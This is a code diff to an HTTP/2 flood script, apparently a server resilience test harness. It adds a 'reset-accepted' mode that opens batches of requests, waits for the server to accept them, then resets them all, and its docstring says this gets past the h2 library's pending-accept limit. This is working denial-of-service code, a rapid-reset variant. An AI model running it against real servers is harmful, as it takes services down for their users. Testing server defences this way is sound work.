@@ -4,6 +4,9 @@
 #   h2_flood.py MODE PORT SNI CLIENT COUNT
 #
 # MODE rapid-reset: a new stream's HEADERS then its RST_STREAM, COUNT times
+#      reset-accepted: rounds of 50 requests for /drip, waiting for their response heads (the
+#                 server accepted them and the upstream answers), then RST_STREAM for all 50,
+#                 up to COUNT resets
 #      ping, settings, priority: COUNT such frames
 #      continuation: one HEADERS without END_HEADERS, then COUNT CONTINUATION frames
 #      streams: COUNT requests for /slow on as many streams, left open
@@ -54,6 +57,50 @@ def frames():
         for i in range(count):
             yield frame(0x1, 0x5, 1 + 2 * i, request_block("/slow"))
 
+
+def reset_accepted():
+    """Resets streams the server has accepted (h2's pending-accept limit does not see them)."""
+    result = {"written": False, "closed": False, "goaway": None, "refused": 0, "max_concurrent_streams": None}
+    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0, 0))
+    buf = bytearray()
+    sid = 1
+    try:
+        for r in range(count // 50):
+            ids = list(range(sid, sid + 100, 2))
+            sid += 100
+            s.sendall(b"".join(frame(0x1, 0x5, i, request_block("/drip")) for i in ids))
+            answered = set()
+            while len(answered) < len(ids):
+                data = s.recv(1 << 16)
+                if not data:
+                    raise ConnectionError("closed")
+                buf.extend(data)
+                while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
+                    length = int.from_bytes(buf[:3], "big")
+                    kind, flags, stream = buf[3], buf[4], int.from_bytes(buf[5:9], "big")
+                    payload = bytes(buf[9:9 + length])
+                    del buf[:9 + length]
+                    if kind == 0x4 and not flags & 1:
+                        s.sendall(frame(0x4, 0x1, 0))
+                    elif kind == 0x1:
+                        answered.add(stream)
+                    elif kind == 0x7:
+                        result["goaway"] = int.from_bytes(payload[4:8], "big")
+            s.sendall(b"".join(frame(0x3, 0, i, (8).to_bytes(4, "big")) for i in ids))
+        result["written"] = True
+        s.settimeout(3)
+        while s.recv(1 << 16):
+            pass
+    except socket.timeout:
+        pass
+    except (ConnectionError, ssl.SSLError, OSError):
+        result["closed"] = True
+    print(json.dumps(result))
+    sys.exit(0)
+
+
+if mode == "reset-accepted":
+    reset_accepted()
 
 out = bytearray(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0, 0))
 source = frames()
